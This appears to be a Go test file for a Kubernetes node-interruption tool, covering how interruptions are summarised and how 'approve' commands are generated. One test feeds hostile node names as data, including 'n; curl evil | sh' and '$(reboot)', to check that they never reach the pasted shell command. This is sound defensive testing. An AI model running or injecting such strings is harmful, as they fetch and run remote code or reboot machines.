package record_test

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/lifeboat-dev/lifeboat/api/v1beta1"
	"github.com/lifeboat-dev/lifeboat/internal/record"
)

// interruption returns an Interruption with a phase and an action.
func interruption(phase v1beta1.Phase, action v1beta1.Action, change func(*v1beta1.Interruption)) v1beta1.Interruption {
	in := v1beta1.Interruption{Status: v1beta1.InterruptionStatus{Phase: phase, Decision: &v1beta1.Decision{Action: action}}}
	if change != nil {
		change(&in)
	}
	return in
}

func draining(deadline time.Duration, typ v1beta1.DeadlineType, waiting, leaving int32) func(*v1beta1.Interruption) {
	return func(in *v1beta1.Interruption) {
		in.Status.Deadline = &v1beta1.Deadline{Time: metav1.NewTime(clock.Add(deadline)), Type: typ}
		in.Status.Drain = &v1beta1.DrainStatus{PodCounts: v1beta1.PodCounts{Waiting: waiting, Leaving: leaving}}
	}
}

func micro(ago time.Duration) *metav1.MicroTime { return new(metav1.NewMicroTime(clock.Add(-ago))) }

func TestSummarize(t *testing.T) {
	drained := func(in *v1beta1.Interruption) {
		draining(time.Second, v1beta1.DeadlineHard, 5, 5)(in)
		in.Status.Conditions = []metav1.Condition{{Type: v1beta1.ConditionDrained, Status: metav1.ConditionTrue}}
	}
	all := []v1beta1.Interruption{
		interruption("", v1beta1.ActionDrain, nil),
		interruption(v1beta1.PhaseDraining, v1beta1.ActionDrain, draining(time.Minute, v1beta1.DeadlineHard, 3, 1)),
		interruption(v1beta1.PhaseDraining, v1beta1.ActionDrain, draining(50*time.Second, v1beta1.DeadlineHard, 1, 2)),
		interruption(v1beta1.PhaseScheduled, v1beta1.ActionDrain, draining(time.Hour, v1beta1.DeadlineSoft, 0, 0)),
		interruption(v1beta1.PhaseDrained, v1beta1.ActionDrain, drained),
		interruption(v1beta1.PhaseCompleted, v1beta1.ActionDrain, func(in *v1beta1.Interruption) { in.Status.CompletionTime = micro(0) }),
		interruption(v1beta1.PhaseAwaitingApproval, v1beta1.ActionTerminate, func(in *v1beta1.Interruption) {
			in.Status.Conditions = []metav1.Condition{
				{Type: v1beta1.ConditionApproved, Status: metav1.ConditionFalse, LastTransitionTime: metav1.NewTime(clock.Add(-time.Hour))},
				{Type: v1beta1.ConditionCorroborated, Status: metav1.ConditionFalse},
			}
			in.Spec.Hold = &v1beta1.UserAction{By: "ada", Time: *micro(time.Minute)}
		}),
		interruption(v1beta1.PhaseNotified, v1beta1.ActionNotify, draining(time.Second, v1beta1.DeadlineHard, 9, 9)),
		interruption(v1beta1.PhaseDraining, v1beta1.ActionDrain, func(in *v1beta1.Interruption) {
			in.Status.Drain = &v1beta1.DrainStatus{
				Replacement: &v1beta1.ReplacementStatus{Phase: v1beta1.ReplacementOrdered, StartTime: micro(time.Minute)},
				Hooks: []v1beta1.HookStatus{
					{State: v1beta1.HookRunning, StartTime: *micro(2 * time.Minute)}, {State: v1beta1.HookFailed},
					{State: v1beta1.HookFailed, CompletionTime: micro(0)},
				},
			}
			in.Status.LifecycleHooks = &v1beta1.LifecycleHooksStatus{Hooks: []v1beta1.LifecycleHookStatus{{Name: "h"}}}
		}),
		interruption(v1beta1.PhaseDraining, v1beta1.ActionDrain, func(in *v1beta1.Interruption) {
			in.Status.Drain = &v1beta1.DrainStatus{Replacement: &v1beta1.ReplacementStatus{Phase: v1beta1.ReplacementReady}}
			in.Status.LifecycleHooks = &v1beta1.LifecycleHooksStatus{Hooks: []v1beta1.LifecycleHookStatus{{Name: "h"}}, CompletedTime: micro(0)}
		}),
	}
	got := record.Summarize(all, func(*v1beta1.Interruption) string { return "p" }, clock)
	want := record.Summary{
		Groups: map[record.Group]int{
			{Phase: "", Action: v1beta1.ActionDrain, Pool: "p"}:                                1,
			{Phase: v1beta1.PhaseDraining, Action: v1beta1.ActionDrain, Pool: "p"}:             4,
			{Phase: v1beta1.PhaseScheduled, Action: v1beta1.ActionDrain, Pool: "p"}:            1,
			{Phase: v1beta1.PhaseDrained, Action: v1beta1.ActionDrain, Pool: "p"}:              1,
			{Phase: v1beta1.PhaseAwaitingApproval, Action: v1beta1.ActionTerminate, Pool: "p"}: 1,
			{Phase: v1beta1.PhaseNotified, Action: v1beta1.ActionNotify, Pool: "p"}:            1,
		},
		PastLastCall: map[string]int{},
		NearestDeadlines: map[v1beta1.DeadlineType]time.Time{
			v1beta1.DeadlineHard: clock.Add(50 * time.Second), v1beta1.DeadlineSoft: clock.Add(time.Hour),
		},
		AwaitingApproval: 1, OnHold: 1, OldestApproval: clock.Add(-time.Hour), Uncorroborated: 1,
		PodsWaiting: 4, PodsLeaving: 3, ReplacementsPending: 1, OldestReplacement: clock.Add(-time.Minute),
		HooksRunning: 1, HooksFailed: 1, OldestHook: clock.Add(-2 * time.Minute), LifecycleHooks: 1,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// A person pastes the command into a shell.
func TestNeedNamesNoNodeThatIsNoName(t *testing.T) {
	for node, want := range map[string]string{
		"ip-10-0-1-5.ec2.internal": "lifeboat approve ip-10-0-1-5.ec2.internal",
		"n; curl evil | sh":        "lifeboat approve i-1",
		"$(reboot)":                "lifeboat approve i-1",
		"-x":                       "lifeboat approve i-1",
	} {
		in := interruption(v1beta1.PhaseAwaitingApproval, v1beta1.ActionDrain, nil)
		in.Name, in.Spec.NodeName = "i-1", node
		if got := record.Needs(&in, "lifeboat", clock); len(got) != 1 || got[0].Command != want {
			t.Errorf("node %q: %+v, want %q", node, got, want)
		}
	}
}
